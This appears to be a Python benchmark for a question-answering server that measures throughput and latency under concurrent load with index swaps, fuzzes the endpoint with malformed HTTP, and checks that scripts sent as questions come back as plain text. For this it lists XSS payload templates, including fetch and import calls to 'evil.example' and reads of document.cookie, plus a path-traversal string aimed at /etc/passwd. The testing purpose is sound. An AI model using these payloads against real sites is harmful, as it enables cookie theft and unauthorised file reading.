"""How serving holds under load, and what bad visitors can do to it.

  python -m benchmarks.serve --workdir=DIR

DIR is a demo's folder; of its fine-tuned run a copy is made and asked. Clients
ask at once, each its questions one after the other, while index versions are
published; then come requests of random bytes, and questions that try to be
scripts. Ends in one JSON object: answers a second, latencies, and what must be
0: answers of 5xx, answers that name a version that isn't whole, tracebacks.
"""

import asyncio
import collections
import json
import pathlib
import random
import shutil
import tempfile
import threading
import time
from urllib import parse

import numpy as np
from absl import flags

from benchmarks import start
from realm_jax.config import InputError
from realm_jax.retrieval import index
from realm_jax.serve import server
from realm_jax.serve.desk import Where
from realm_jax.serve.explain import Explainer
from realm_jax.serve.folder import Folder
from realm_jax.serve.limits import Limits

_TEXTS = 40  # questions that differ
_SCRIPTS = (
  "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
  "'-{}-'", '"><script>{}</script>', "javascript:{}", "{{{{{}}}}}", "${{{}}}",
  "<iframe srcdoc='<script>{}</script>'>", "</title><script>{}</script>",
)  # fmt: skip
_CALLS = ("alert(1)", "fetch('//evil.example')", "document.cookie", "eval(name)",
          "import('//evil.example')")  # fmt: skip
_WORDS = (
  "painter river city king island dance planet metal novel bridge war"
  " language mountain composer of in the oldest largest first"
).split()


def main(f):
  if not f.workdir:
    raise InputError("--workdir is missing: give a demo's folder")
  with tempfile.TemporaryDirectory() as folder:
    copy = pathlib.Path(folder) / "demo"
    shutil.copytree(f.workdir, copy, ignore=_unused)
    print(json.dumps(_measure(copy), indent=2))


def _unused(path, names):
  return [n for n in names if n in ("ict", "frozen", "encoder", "tensorboard")]


def _measure(workdir: pathlib.Path) -> dict:
  notes = []
  options = server.Options(port=0, limits=Limits(waiting=flags.FLAGS.waiting))
  folder = Folder(workdir)
  desk = server.make_desk(folder, options, notes.append)
  desk.open(Where(folder.default))
  desk.start()
  made = server.make_server(folder, desk, options, notes.append)
  sock = made.config.bind_socket()
  thread = threading.Thread(target=made.run, kwargs={"sockets": [sock]})
  thread.start()
  while not made.started:
    time.sleep(0.01)
  run, port = folder.find(folder.default), sock.getsockname()[1]
  try:
    return {
      "waiting": flags.FLAGS.waiting,
      "load": asyncio.run(_load(port, run)),
      "fuzz": asyncio.run(fuzz(port, flags.FLAGS.fuzzed, flags.FLAGS.seed)),
      "scripts": asyncio.run(inject(port)),
      "faults": [n for n in notes if "Error" in n],
    }
  finally:
    made.should_exit = True
    thread.join()
    desk.close()


async def _request(port: int, content: bytes) -> tuple[int, bytes]:
  """Status and body of what comes back; 0 where the connection is cut."""
  reader, writer = await asyncio.open_connection("127.0.0.1", port)
  try:
    writer.write(content)
    answer = await asyncio.wait_for(reader.read(), 30)
  except ConnectionError:
    return 0, b""
  finally:
    writer.close()
  head, _, body = answer.partition(b"\r\n\r\n")
  return int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/") else 0, body


def _question(text: str) -> bytes:
  body = json.dumps({"question": text}).encode()
  return (
    b"POST /api/ask HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\n"
    b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
  )


async def _load(port: int, run: pathlib.Path) -> dict:
  """Clients ask while versions are swapped; then each version by itself."""
  rng = random.Random(flags.FLAGS.seed)
  texts = [" ".join(rng.choices(_WORDS, k=6)) for _ in range(_TEXTS)]
  statuses, seconds, answers = collections.Counter(), [], []

  async def client():
    for _ in range(flags.FLAGS.questions):
      began = time.perf_counter()
      status, body = await _request(port, _question(rng.choice(texts)))
      statuses[status] += 1
      if status == 200:  # one that is turned away hasn't waited
        seconds.append(time.perf_counter() - began)
        answers.append(json.loads(body))

  async def swap(pause):
    for _ in range(flags.FLAGS.swaps):
      await asyncio.sleep(pause)
      await asyncio.to_thread(_publish, run, rng.randrange(1 << 30))

  began = time.perf_counter()
  await asyncio.gather(*(_request(port, _question(t)) for t in texts))
  one = (time.perf_counter() - began) / len(texts)
  pause = (
    one * flags.FLAGS.clients * flags.FLAGS.questions / (flags.FLAGS.swaps + 2)
  )
  began, busy = time.perf_counter(), time.process_time()
  await asyncio.gather(
    swap(pause), *(client() for _ in range(flags.FLAGS.clients))
  )
  took = time.perf_counter() - began
  busy = time.process_time() - busy
  versions = collections.Counter(a["index"]["version"] for a in answers)
  return {
    "answers": {str(s): n for s, n in sorted(statuses.items())},
    "5xx": sum(n for s, n in statuses.items() if s >= 500),
    "of_version": {str(v): n for v, n in sorted(versions.items())},
    "not_of_one_version": _torn(run, texts, answers),
    "answers_per_second": round(statuses[200] / took, 1),
    # of server and clients; on a machine that others use it tells more
    "cpu_seconds_per_answer": round(busy / max(statuses[200], 1), 4),
    "p50_seconds": round(float(np.quantile(seconds, 0.5)), 3),
    "p95_seconds": round(float(np.quantile(seconds, 0.95)), 3),
  }


def _torn(run: pathlib.Path, texts: list[str], answers: list[dict]) -> int:
  """Answers whose blocks are not those of the version that they name."""
  blocks = {}
  for version in {a["index"]["version"] for a in answers}:
    explainer = Explainer(run, index=str(version))
    for text, x in zip(texts, explainer.explain(texts), strict=True):
      blocks[version, text] = {b.block_id for b in x.evidence}
  return sum(
    {b["block_id"] for b in a["evidence"]}
    != blocks[a["index"]["version"], a["question"]]
    for a in answers
  )


def _publish(run: pathlib.Path, seed: int) -> None:
  """A next version: the newest one's rows, moved a little."""
  newest = index.latest_version(run)
  made = index.read_manifest(run, newest)
  rows, _ = index.read_version(run, newest, {})
  noise = np.random.default_rng(seed).standard_normal(rows.shape, np.float32)
  rows = rows + (0.1 * rows.std() * noise).astype(rows.dtype)
  drop = ("version", "dtype", "shape", "files", "sha256")
  kept = {k: v for k, v in made.items() if k not in drop}
  # older params than the checkpoint's: what a stale index of this run has
  index.publish_next(run, rows, kept | {"params_step": made["params_step"] - 1})


async def fuzz(port: int, count: int, seed: int) -> dict:
  """Sends requests of every kind of wrong, some right in part."""
  rng = random.Random(seed)
  statuses = collections.Counter()
  gate = asyncio.Semaphore(16)

  async def one():
    async with gate:
      status, body = await _request(port, _wrong(rng))
      statuses[status] += 1
      if b"Traceback" in body:
        raise InputError(f"a traceback came back: {body[:200]!r}")

  await asyncio.gather(*(one() for _ in range(count)))
  return {"answers": {str(s): n for s, n in sorted(statuses.items())}}


def _wrong(rng: random.Random) -> bytes:
  kind = rng.randrange(6)
  noise = rng.randbytes(rng.choice((0, 3, 90, 900)))
  if kind == 0:
    return noise + b"\r\n\r\n"
  if kind == 1:
    path = parse.quote_from_bytes(noise[:60]) or "..%2f..%2fetc/passwd"
    return (
      b"GET /%s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
      % path.encode()
    )
  if kind == 2:
    body = noise
  elif kind == 3:
    names = ("question", "run", "index", "\ud800", "")
    values = (
      "",
      None,
      3,
      [],
      {},
      "x" * 3000,
      "\ud800",
      noise.decode("latin-1"),
      True,
      -1e99,
    )
    body = json.dumps(
      {n: rng.choice(values) for n in rng.sample(names, 3)}
    ).encode()
  elif kind == 4:
    body = bytearray(b'{"question": "river", "run": "finetune", "index": ""}')
    for _ in range(3):
      body[rng.randrange(len(body))] = rng.randrange(256)
  else:
    body = b"[" * rng.randrange(60_000)
  method = rng.choice((b"POST", b"PUT", b"GET", b"HEAD", b"OPTIONS", b"BREW"))
  length = rng.choice((len(body), len(body), len(body), 10**9, 0))
  return (
    b"%s /api/%s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
    % (rng.choice((method, b"POST")), rng.choice((b"ask", b"ask", b"runs", b"curves?run=x")),
       length, bytes(body))
  )  # fmt: skip


async def inject(port: int) -> dict:
  """Scripts as questions come back as JSON that says just what was sent."""
  inert = 0
  texts = [s.format(c) for s in _SCRIPTS for c in _CALLS]
  for text in texts:
    status, body = await _request(port, _question(text))
    inert += status == 200 and json.loads(body)["question"] == text
  return {"sent": len(texts), "came_back_as_text": inert}


if __name__ == "__main__":
  flags.DEFINE_string("workdir", "", "a demo's folder")
  flags.DEFINE_integer("clients", 64, "who ask at once")
  flags.DEFINE_integer("questions", 20, "of each client")
  flags.DEFINE_integer("swaps", 5, "index versions published meanwhile")
  flags.DEFINE_integer("fuzzed", 10_000, "requests of random bytes")
  flags.DEFINE_integer("waiting", 64, "questions that may wait")
  flags.DEFINE_integer("seed", 0, "of questions and bytes")
  start.run(main)
